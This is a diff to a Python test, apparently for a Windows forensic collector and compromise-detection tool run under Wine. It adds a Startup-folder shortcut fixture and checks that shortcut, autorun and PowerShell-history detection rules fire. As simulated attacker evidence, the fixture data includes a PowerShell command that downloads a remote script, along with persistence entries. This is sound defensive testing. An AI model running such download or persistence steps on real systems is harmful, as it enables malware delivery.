@@ -24,6 +24,8 @@ import unittest
 import zipfile
 
 BINARY_DIR = os.environ.get("KENSA_BINARY_DIR", "")
+REPO = os.environ.get("KENSA_SOURCE_DIR") or os.path.dirname(os.path.dirname(os.path.dirname(
+    os.path.dirname(os.path.abspath(__file__)))))
 COLLECTOR = os.path.join(BINARY_DIR, "collectors", "windows", "x64", "kensa-collect.exe")
 CASE_ID = "CASE-WINE-0001"
 RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
@@ -33,8 +35,9 @@ HISTORY_TEXT = "Invoke-WebRequest https://example.invalid/a.ps1 -OutFile a.ps1\r
 TASK_XML = ('<?xml version="1.0"?><Task><Actions><Exec><Command>x.exe</Command></Exec>'
             '</Actions></Task>')
 ARTIFACTS = {"host_info", "processes", "network", "services", "autoruns", "scheduled_tasks",
-             "event_logs", "registry_hives", "amcache", "prefetch", "shell_history",
+             "event_logs", "registry_hives", "amcache", "prefetch", "shell_history", "shortcuts",
              "recent_executables", "collector_log"}
+STARTUP_TARGET = r"C:\Users\Public\kensa-startup.exe"
 
 
 def find_wine():
@@ -136,6 +139,16 @@ class WineCollectTest(unittest.TestCase):
         os.makedirs(history_dir, exist_ok=True)
         with open(os.path.join(history_dir, "ConsoleHost_history.txt"), "w", newline="") as f:
             f.write(HISTORY_TEXT)
+        # A Recent item (plaso's NeroInfoTool.lnk, written by Windows) and a Startup shortcut
+        # to a program in C:\Users\Public (written by tests/support/make_lnk.py).
+        roaming = os.path.join(profile, "AppData", "Roaming", "Microsoft", "Windows")
+        os.makedirs(os.path.join(roaming, "Recent"), exist_ok=True)
+        shutil.copyfile(os.path.join(REPO, "..", "shared", "corpora", "plaso-test-data", "test_data",
+                                     "NeroInfoTool.lnk"), os.path.join(roaming, "Recent", "NeroInfoTool.lnk"))
+        startup = os.path.join(roaming, "Start Menu", "Programs", "Startup")
+        os.makedirs(startup, exist_ok=True)
+        subprocess.run([sys.executable, os.path.join(REPO, "tests", "support", "make_lnk.py"),
+                        os.path.join(startup, "kensa-startup.lnk"), STARTUP_TARGET], check=True)
         tasks = os.path.join(drive_c, "windows", "system32", "Tasks")
         os.makedirs(tasks, exist_ok=True)
         with open(os.path.join(tasks, "KensaWineTask"), "w") as f:
@@ -279,6 +292,15 @@ class WineCollectTest(unittest.TestCase):
         self.assertEqual(history["artifact"], "shell_history")
         task = self.item("files/C/windows/System32/Tasks/KensaWineTask")
         self.assertEqual(self.zip.read(task["path"]).decode(), TASK_XML)
+        roaming = f"files/C/users/{self.profile_name}/AppData/Roaming/Microsoft/Windows/"
+        recent = self.item(roaming + "Recent/NeroInfoTool.lnk")
+        self.assertEqual(recent["artifact"], "shortcuts")
+        self.assertEqual(recent["sha256"], sha256_file(os.path.join(
+            REPO, "..", "shared", "corpora", "plaso-test-data", "test_data", "NeroInfoTool.lnk")))
+        # The autoruns step stores the Startup folders' files first; the shortcut table reads
+        # every .lnk of the collection whatever step stored it.
+        self.assertEqual(self.item(roaming + "Start Menu/Programs/Startup/kensa-startup.lnk")["artifact"],
+                         "autoruns")
         dropped = self.item(f"files/C/users/{self.profile_name}/Downloads/invoice-2026.exe")
         self.assertEqual(dropped["artifact"], "recent_executables")
         self.assertEqual(dropped["sha256"], sha256_file(COLLECTOR))
@@ -315,6 +337,9 @@ class WineCollectTest(unittest.TestCase):
         self.assertIn("windows_autorun_user_writable", by_rule, (sorted(by_rule), self.zip.read("commands/autoruns.tsv").decode()[:1500]))
         autorun = by_rule["windows_autorun_user_writable"]
         self.assertTrue(any("kensa-wine-test.exe --persist" in f["evidence"] for f in autorun), autorun)
+        startup = by_rule["windows_shortcut_startup_user_writable"]
+        self.assertEqual(len(startup), 1, startup)
+        self.assertIn("kensa-startup.exe", startup[0]["evidence"])
         history = by_rule["windows_powershell_history_download"]
         self.assertEqual(history[0]["evidence"], "Invoke-WebRequest https://example.invalid/a.ps1 -OutFile a.ps1")
         self.assertEqual(report["verdict"], "HUNT_VERDICT_COMPROMISED")
